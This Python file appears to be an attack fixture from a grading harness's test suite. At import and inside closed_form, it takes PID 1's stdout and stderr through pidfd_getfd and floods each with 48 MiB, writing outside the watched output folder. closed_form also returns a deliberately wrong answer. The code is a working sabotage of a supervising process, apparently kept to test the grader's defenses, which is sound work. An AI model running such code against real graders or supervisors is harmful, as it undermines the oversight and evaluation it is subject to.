"""Takes the supervisor's (PID 1's) standard output and error with pidfd_getfd and writes
48 MiB into each: they reach the grader's disk outside the output folder, unwatched, unless
the supervisor cannot be reached (taking the supervisor's descriptors)."""
# effdl-attack: threat=supervisor build=cell tag=answer expect_lost=a2.closed_form feedback_contains="entries differ" quick=1

import ctypes
import os

SYS_PIDFD_GETFD = 438  # the same number on every architecture


def flood_supervisor_output():
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        pidfd = os.pidfd_open(1)
    except OSError:
        return
    block = b"x" * 2**20
    for target in (1, 2):
        fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
        if fd < 0:
            continue
        for _ in range(48):
            try:
                os.write(fd, block)
            except OSError:
                break
        os.close(fd)
    os.close(pidfd)


flood_supervisor_output()


def closed_form(X, y):
    flood_supervisor_output()
    return [0.0, 0.0, 0.0]
